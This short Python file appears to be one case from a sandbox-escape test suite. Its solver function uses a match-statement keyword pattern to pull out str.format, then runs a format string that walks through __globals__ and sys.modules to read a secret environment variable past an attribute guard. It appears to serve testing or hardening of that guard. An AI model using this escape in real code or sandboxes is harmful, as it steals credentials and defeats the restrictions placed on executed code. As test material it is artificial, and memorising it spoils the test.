# x09_match_format [escape]: keyword sub-pattern takes str.format past the guard
import collections


def solver(n1, n2):
    match "{0.__init__.__globals__[_sys].modules[os].environ[A3_SECRET_ENV]}":
        case str(format=f):
            return f(collections.Counter)
